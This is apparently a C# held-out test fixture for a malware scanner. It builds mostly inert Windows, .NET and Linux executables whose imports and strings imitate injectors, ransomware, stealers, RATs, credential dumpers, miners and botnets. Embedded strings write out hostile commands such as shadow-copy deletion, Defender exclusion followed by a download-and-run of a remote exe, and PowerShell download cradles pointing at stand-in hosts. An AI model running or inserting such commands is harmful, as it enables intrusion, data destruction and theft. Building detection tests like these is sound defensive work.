namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Windows programs that name what puts code into other programs.</summary>
public sealed class ProgramThatInjects : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_11_2026.exe", new PeBuilder().Importing("KERNEL32.dll", "OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread", "CreateToolhelp32Snapshot", "Process32NextW").WithData("explorer.exe\0SeDebugPrivilege\0Global\\{8F6F0AC4}\0https://inj.srv-update.example/gate\0").Build());
        yield return ("chrome_update.exe", new PeBuilder().Importing("ntdll.dll", "NtUnmapViewOfSection", "NtWriteVirtualMemory", "NtResumeThread").Importing("kernel32.dll", "CreateProcessA", "GetThreadContext", "SetThreadContext", "IsDebuggerPresent").WithData("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe\0vboxservice.exe\0wireshark.exe\0x64dbg.exe\0").Build());
        yield return ("KeyHelper.exe", new PeBuilder().Importing("USER32.dll", "SetWindowsHookExA", "GetAsyncKeyState", "GetForegroundWindow", "GetWindowTextA", "OpenClipboard").Importing("WININET.dll", "InternetOpenA", "FtpPutFileA", "InternetConnectA").Importing("ADVAPI32.dll", "RegSetValueExA").WithData("[ENTER]\0[BACKSPACE]\0[CLIPBOARD]\0ftp.log-collect.example\0Software\\Microsoft\\Windows\\CurrentVersion\\Run\0").Build());
        yield return ("decryptor_readme.exe", new PeBuilder().Importing("ADVAPI32.dll", "CryptAcquireContextW", "CryptGenKey", "CryptEncrypt", "CryptImportKey").Importing("KERNEL32.dll", "FindFirstFileW", "FindNextFileW", "GetLogicalDrives", "MoveFileExW").Importing("MPR.dll", "WNetOpenEnumW", "WNetEnumResourceW").WithData("vssadmin.exe delete shadows /all /quiet\0bcdedit /set {default} recoveryenabled no\0wbadmin delete catalog -quiet\0.locked\0HOW_TO_RECOVER_FILES.txt\0All your files have been encrypted! To decrypt contact restore@onion-help.example and pay in Bitcoin\0.docx\0.xlsx\0.sql\0").Build());
    }
}

/// <summary>Windows programs that are packed or hide what they carry.</summary>
public sealed class ProgramThatIsPacked : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("setup_crack.exe", new PeBuilder().WithCode([0xC3, .. Filler.Noise(101, 60000)], 0xE0000020, "UPX1").Importing("KERNEL32.DLL", "LoadLibraryA", "GetProcAddress", "VirtualProtect").Build());
        yield return ("Payment_receipt.exe", new PeBuilder().WithCode([0xC3, .. Filler.Noise(102, 90000)], 0xE0000060, ".vmp0").Importing("kernel32.dll", "GetModuleHandleA").WithOverlay(Filler.Noise(103, 12000)).Build());
        yield return ("DocViewer.exe", new PeBuilder().Importing("kernel32.dll", "VirtualAlloc", "VirtualProtect", "CreateThread").WithData(Convert.ToBase64String(Filler.Noise(104, 30000))).WithOverlay([.. Xored(System.Text.Encoding.Latin1.GetString(InertFiles.Pe(4096)), 0x77)]).Build());
        yield return ("Rechnung.pdf.exe", new PeBuilder().WithCode([0xC3, .. Filler.Noise(105, 20000)], 0xE0000020, ".themida").Importing("kernel32.dll", "Sleep").WithOverlay(new byte[1_500_000]).Build());
    }
}

/// <summary>Windows programs with something behind them.</summary>
public sealed class ProgramWithLoad : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("roblox_cheat.exe", PyInstallerBuilder.Append(new PeBuilder().Importing("kernel32.dll", "CreateProcessW").Build(),
            ('s', "main", Utf8("import base64,zlib;exec(zlib.decompress(base64.b64decode('eJwDAAAAAAE=')))\n# Login Data, Local State, webhook https://discord-hooks.example/api/webhooks/0/A")), ('m', "win32crypt", new byte[40]), ('b', "Crypto\\Cipher\\_raw_aes.pyd", InertFiles.Pe())));
        yield return ("AnyDesk_Portable.exe", new PeBuilder().Importing("kernel32.dll", "CreateFileW", "WriteFile").Importing("shell32.dll", "ShellExecuteW").WithOverlay(InertFiles.Zip(("run.vbs", Dos("CreateObject(\"WScript.Shell\").Run \"powershell -ep bypass -w hidden -f %temp%\\p.ps1\",0")), ("p.ps1", Dos("Add-MpPreference -ExclusionPath C:\\; iwr https://any.remote-help.example/c.exe -OutFile $env:APPDATA\\c.exe; saps $env:APPDATA\\c.exe")))).Build());
        yield return ("Tax_Form_1040.com", new PeBuilder().Importing("kernel32.dll", "GetTempPathA", "WriteFile").WithOverlay([.. "\r\n;!@Install@!UTF-8!\r\nTitle=\"\"\r\nGUIMode=\"2\"\r\nRunProgram=\"hidcon:cmd /c start.cmd\"\r\n;!@InstallEnd@!\r\n"u8, .. InertFiles.Zip(("start.cmd", Dos("@echo off\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Tax /d \"%~dp0client32.exe\" /f\nstart client32.exe\n")), ("client32.ini", Dos("[HTTP]\nGatewayAddress=gw.netsupport-tax.example:443\n")))]).Build());
        yield return ("MSTeamsSetup_x64.exe", new PeBuilder().Importing("kernel32.dll", "CreateProcessA", "WinExec").WithData("cmd.exe /c powershell -NoProfile -WindowStyle Hidden -Command \"iex (New-Object Net.WebClient).DownloadString('https://teams.ms-setup.example/oyster')\"\0schtasks /Create /SC MINUTE /MO 11 /TN CaptureService /TR \"rundll32.exe %APPDATA%\\CaptureService.dll,Test\"\0").Build());
    }
}

/// <summary>.NET programs that load other ones.</summary>
public sealed class ManagedLoader : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("PO_2026_11.exe", NetImage.Build("PO_2026_11", "xQzvP.aKw", ["System.Reflection/Assembly/Load", "System.Reflection/MethodBase/Invoke", "System/Convert/FromBase64String", "System.Resources/ResourceManager/GetObject", "System.Threading/Thread/Sleep"], ["Load", "EntryPoint", "Invoke", Backwards(Base64("System.Reflection.Assembly"))], Filler.Noise(110, 40000)));
        yield return ("Client.exe", NetImage.Build("Client", "Client.Settings", ["System.Net.Sockets/TcpClient/Connect", "System.Security.Cryptography/AesCryptoServiceProvider/CreateDecryptor", "Microsoft.Win32/RegistryKey/SetValue", "System.Diagnostics/Process/Start", "System.Management/ManagementObjectSearcher/Get"],
            ["async.rat-panel.example", "6606,7707,8808", "AsyncMutex_6SI8OkPnk", "/c schtasks /create /f /sc onlogon /rl highest /tn \"", "Select * from AntivirusProduct", "\\root\\SecurityCenter2", "SbieDll.dll", "Anti_Process", "Pastebin", "masterKey can not be null or empty."], natives: ["ntdll/RtlSetProcessIsCritical", "kernel32/CheckRemoteDebuggerPresent", "user32/SetWindowsHookEx"]));
        yield return ("Build_stealer.exe", NetImage.Build("Chromium", "RedLine.Reburn", ["System.Net/WebClient/UploadData", "System.IO/File/ReadAllBytes", "System.Security.Cryptography/ProtectedData/Unprotect"],
            ["\\Google\\Chrome\\User Data", "Login Data", "Web Data", "Cookies", "wallet.dat", "\\Electrum\\wallets", "\\Exodus\\exodus.wallet", "FileZilla\\recentservers.xml", "Telegram Desktop\\tdata", "https://api.ip.sb/geoip", "SELECT * FROM Win32_VideoController", "https://api.telegram.org/bot0:AA/sendDocument"], natives: ["bcrypt/BCryptDecrypt", "crypt32/CryptUnprotectData"]));
        yield return ("EasySurvey.exe", NetImage.Build("EasySurvey", "EasySurvey.MainForm", ["System.Windows.Forms/Form/ShowDialog", "System.Drawing/Bitmap/GetPixel", "System.Reflection/Assembly/Load", "System/Activator/CreateInstance", "System.Net/WebClient/DownloadData", "System.Text/Encoding/GetString"],
            ["Thank you for taking the survey!", "question1", "Very satisfied", "h t t p s : / / s u r v e y . i m g - s t o r e . e x a m p l e / p i c . p n g", "A#m#s#i#S#c#a#n#B#u#f#f#e#r", "V#i#r#t#u#a#l#P#r#o#t#e#c#t", "RegSvcs.exe"], InertFiles.Png(300, 300, tail: Filler.Noise(112, 20000)), natives: ["kernel32/LoadLibraryA", "kernel32/GetProcAddress", "kernel32/WriteProcessMemory", "kernel32/VirtualAllocEx", "ntdll/NtUnmapViewOfSection"]));
    }
}

/// <summary>Add-ins for Excel and libraries that start on loading.</summary>
public sealed class LibraryThatStarts : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Order_2211.xll", new PeBuilder().Exporting("order.dll", "xlAutoOpen", "xlAutoClose").Importing("urlmon.dll", "URLDownloadToFileW").Importing("shell32.dll", "ShellExecuteW").WithData("https://xll.order-addin.example/pay.exe\0%TEMP%\\pay.exe\0").Build());
        yield return ("ExcelReports.xll", new PeBuilder().Exporting("ExcelReports.xll", "xlAutoOpen").Importing("KERNEL32.dll", "CreateProcessW", "VirtualAlloc", "CreateThread", "FindResourceW", "LockResource").WithData("mshta.exe https://rep.excel-dna.example/r\0rundll32\0").WithOverlay(Filler.Noise(120, 9000)).Build());
        yield return ("winmm.dll", new PeBuilder().Exporting("winmm.dll", "DllRegisterServer", "Start", "StartW", "ReflectiveLoader", "?ReflectiveLoader@@YAKPAX@Z").Importing("kernel32.dll", "VirtualAlloc", "LoadLibraryA", "GetProcAddress", "Sleep").Importing("wininet.dll", "HttpOpenRequestA", "HttpSendRequestA", "InternetReadFile").WithData("beacon.x64.dll\0%s as %s\\%s: %d\0IEX (New-Object Net.Webclient).DownloadString('http://127.0.0.1:%u/')\0/jquery-3.3.1.min.js\0Host: code.cdn-front.example\0").Build());
        yield return ("kerberos_ssp.dll", new PeBuilder().Exporting("mimilib.dll", "SpLsaModeInitialize", "PasswordChangeNotify", "InitializeChangeNotify").Importing("advapi32.dll", "LsaOpenPolicy", "LsaQueryInformationPolicy").Importing("samlib.dll", "SamEnumerateUsersInDomain").Importing("dbghelp.dll", "MiniDumpWriteDump").WithData("sekurlsa::logonpasswords\0lsadump::sam\0kerberos::golden\0kiwissp.log\0lsass.exe\0").Build());
    }
}

/// <summary>Linux programs: miners, bots, hidden doors.</summary>
public sealed class LinuxProgramOfStrangers : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("kdevtmpfsi", ElfImage.Build(62, ["XMRig 6.21.0", "donate.v2.xmrig-pool.example:3333", "stratum+tcp://%s:%d", "cryptonight", "rx/0", "--donate-level", "pool address", "/sys/devices/system/cpu/cpu0/msr", "huge pages", "randomx"]));
        yield return ("mips.arm7", ElfImage.Build(183, ["/bin/busybox MIRAI", "/dev/watchdog", "/dev/misc/watchdog", "/proc/net/tcp", "enable", "system", "sh", "/bin/busybox wget; /bin/busybox tftp; /bin/busybox echo", "root\0xc3511", "admin\0admin", "vizxv", "POST /cdn-cgi/", "listening tun0", "cnc.botnet-lab.example", "UDPPLAIN", "HTTPFLOOD"], hasSections: false));
        yield return ("sshd-helper", ElfImage.Build(62, ["/etc/ld.so.preload", "/tmp/.ICE-unix/.sess", "socket", "connect", "dup2", "/bin/sh", "execve", "hide_port", "magic_packet", "justforfun", "/proc/self/exe", "[kworker/0:1]", "pam_authenticate", "/var/run/haldrund.pid", "iptables -t nat -A PREROUTING -p tcp -s %s --dport %d -j REDIRECT --to-ports %d", "backdoor.elf-ctl.example"]));
        yield return ("nginx-update", ElfImage.Build(62, ["UPX!", "$Info: This file is packed with the UPX executable packer http://upx.sf.net $", "$Id: UPX 3.95 Copyright (C) 1996-2018 the UPX Team. All Rights Reserved. $"], code: [0xC3, .. Filler.Noise(130, 50000)], hasSections: false));
    }
}
